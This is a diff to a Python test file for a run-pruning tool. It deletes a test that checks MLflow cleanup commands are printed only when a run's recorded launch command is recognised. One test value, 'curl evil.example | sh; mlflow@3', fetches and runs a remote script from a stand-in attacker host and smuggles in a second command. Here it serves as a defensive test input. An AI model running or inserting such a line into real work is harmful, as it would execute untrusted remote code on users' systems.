@@ -2,7 +2,6 @@
 
 import io
 import json
-import os
 import re
 import time
 
@@ -202,39 +201,6 @@ def test_dry_run_removes_nothing_even_with_yes(prune, record_old_run, words):
     assert "old-1" in answer.stdout
     assert "nothing was removed" in answer.stderr
     assert records.list_runs() == ["old-1"]
-
-
-@pytest.mark.parametrize(
-    ("program", "is_said"), [("uvx mlflow@3.15.0", True), ("curl evil.example | sh; mlflow@3", False)]
-)
-def test_lines_that_remove_a_run_from_mlflow_are_printed_if_its_command_is_known(
-    prune, record_old_run, scripted, tmp_path, program, is_said, monkeypatch
-):
-    (tmp_path / "bin").mkdir()
-    (tmp_path / "bin/uvx").write_text("#!/bin/sh\n")
-    (tmp_path / "bin/uvx").chmod(0o755)
-    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{os.environ['PATH']}")
-    uri, run_id = f"sqlite:///{tmp_path / 'tracked' / 'mlflow.db'}", "0123456789abcdef" * 2
-    artifacts = tmp_path / "tracked" / "artifacts" / "pick" / run_id
-    artifacts.mkdir(parents=True)
-    (tmp_path / "tracked" / "mlflow.db").touch()
-    (artifacts / "model").write_bytes(os.urandom(2_000_000))
-    fields = {"event": "tracking", "uri": uri, "experiment_id": "1", "run_id": run_id}
-    started = f"{program} ui --backend-store-uri {uri}"
-    scripted.platform("far", features='{"runs_here": YES}')
-    for run in ("old-1", "older-1"):
-        made = record_old_run(run, days=40, platform="far")
-        made.log(f"::robotrain:: {json.dumps(fields | {'time': 1.0, 'ui': started})}")
-    answer = prune("old-1", "--yes", "--json")
-    assert [(tracked_run["run"], tracked_run["run_id"]) for tracked_run in answer.json["tracked"]] == [
-        ("old-1", run_id)
-    ] * is_said
-    assert ("2.0 MB" in answer.stderr) == is_said
-    assert (f"{program} runs delete --run-id {run_id}\n" in answer.stderr) == is_said
-    assert (f"{program} gc --tracking-uri {uri} --backend-store-uri {uri} --run-ids {run_id}" in answer.stderr) == (
-        is_said
-    )
-    assert "MLflow" not in prune("older-1").stderr  # nothing was removed
 
 
 def test_json_of_a_removal(prune, record_old_run):
